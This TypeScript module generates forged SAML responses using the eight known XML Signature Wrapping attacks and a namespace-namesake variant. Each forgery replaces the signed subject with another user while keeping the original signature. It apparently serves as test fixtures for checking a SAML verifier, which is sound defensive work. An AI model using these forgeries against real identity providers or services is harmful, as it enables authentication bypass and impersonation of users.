import { newId } from './saml-documents';

/** The parts of a response whose assertion is signed, to be put together differently. */
interface Parts {
  /** Everything before and after the assertion. */
  readonly head: string;
  readonly tail: string;
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  /** What the forger wants to be believed: another subject under another ID, unsigned. */
  readonly evil: string;
}

function partsOf(signed: string): Parts {
  const start = signed.indexOf('<saml:Assertion ');
  const end = signed.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length;
  const assertion = signed.slice(start, end);
  const signature = /<ds:Signature [^]*<\/ds:Signature>/.exec(assertion)?.[0];
  if (!signature) throw new Error('The assertion is not signed.');
  const bare = assertion.replace(signature, '');
  const evil = bare.replace(/ ID="[^"]+"/, ` ID="${newId()}"`).replace('ada@acme.test', 'eve@acme.test');
  return { head: signed.slice(0, start), tail: signed.slice(end), assertion, signature, bare, evil };
}

const inside = (element: string, content: string): string =>
  element.replace(/<\/saml:Assertion>$/, `${content}</saml:Assertion>`);
const inObject = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);

/** Wraps a signed Response into a forged one, whose signature still refers to it. */
function aroundResponse(signed: string, place: (response: string, signature: string) => string): string {
  const signature = /<ds:Signature [^]*?<\/ds:Signature>/.exec(signed)?.[0] ?? '';
  const original = signed.replace(signature, '');
  const forged = original
    .replace(/ ID="[^"]+"/, ` ID="${newId()}"`)
    .replace(/(<saml:Assertion) ID="[^"]+"/, `$1 ID="${newId()}"`)
    .replace('ada@acme.test', 'eve@acme.test');
  return forged.replace('</saml:Issuer>', `</saml:Issuer>${place(original, signature)}`);
}

/**
 * The eight ways of wrapping XML signatures (Somorovsky and others, "On Breaking SAML", 2012). The first two take a
 * response that is signed itself, the others one whose assertion is.
 */
export const SIGNATURE_WRAPPINGS: Record<
  string,
  { signed: 'Response' | 'Assertion'; forge(xml: string): string }
> = {
  'XSW1: the signed response inside the signature of a forged one': {
    signed: 'Response',
    forge: (xml) => aroundResponse(xml, (original, signature) => inObject(signature, original)),
  },
  'XSW2: the signed response beside its signature in a forged one': {
    signed: 'Response',
    forge: (xml) => aroundResponse(xml, (original, signature) => original + signature),
  },
  'XSW3: a forged assertion before the signed one': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, assertion, tail } = partsOf(xml);
      return head + evil + assertion + tail;
    },
  },
  'XSW4: the signed assertion inside a forged one': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, assertion, tail } = partsOf(xml);
      return head + inside(evil, assertion) + tail;
    },
  },
  'XSW5: a forged assertion with the signature, the signed one after it': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, signature, bare, tail } = partsOf(xml);
      return head + evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`) + bare + tail;
    },
  },
  'XSW6: the signed assertion inside the signature of a forged one': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, signature, bare, tail } = partsOf(xml);
      return head + evil.replace('</saml:Issuer>', `</saml:Issuer>${inObject(signature, bare)}`) + tail;
    },
  },
  'XSW7: a forged assertion in Extensions': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, assertion, tail } = partsOf(xml);
      return `${head}<samlp:Extensions>${evil}</samlp:Extensions>${assertion}${tail}`;
    },
  },
  'XSW8: the signed assertion in an Object of the forged one’s signature': {
    signed: 'Assertion',
    forge(xml) {
      const { head, evil, signature, bare, tail } = partsOf(xml);
      const wrapped = inObject(
        signature,
        bare.replace(/ ID="[^"]+"/, (id) => id),
      );
      return head + inside(evil, wrapped) + tail;
    },
  },
};

/** The signed assertion moved out of the way, an unsigned namesake of another namespace in its place. */
export function withNamesake(signed: string): string {
  const { head, evil, assertion, tail } = partsOf(signed);
  const namesake = evil
    .replaceAll('saml:', 'fake:')
    .replace('<fake:Assertion', '<fake:Assertion xmlns:fake="urn:fake"');
  return `${head}<samlp:Extensions>${namesake}</samlp:Extensions>${assertion}${tail}`;
}
